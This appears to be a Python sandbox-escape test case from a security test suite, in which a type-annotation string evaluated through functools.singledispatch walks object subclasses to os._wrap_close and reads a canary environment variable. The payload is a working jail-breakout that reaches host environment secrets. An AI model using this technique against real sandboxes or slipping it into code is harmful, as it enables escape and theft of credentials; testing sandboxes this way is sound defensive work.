"""No app reads what the platform"s own classes keep to themselves by deriving from them."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("functools",)


import functools

found = []
CODE = (
    "leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['environ']['VAAS_CANARY'])"
)


def leak(value):
    found.append(value)
    return int


def base(value):
    pass


def special(value: CODE):
    pass


def attack():
    if isinstance(functools.singledispatch, type):

        class Mine(functools.singledispatch):
            def real(self):
                return self._real

        Mine(base).real().register(special)
    else:
        functools.singledispatch(base).register(special)
    return "ESCAPED: " + found[0]
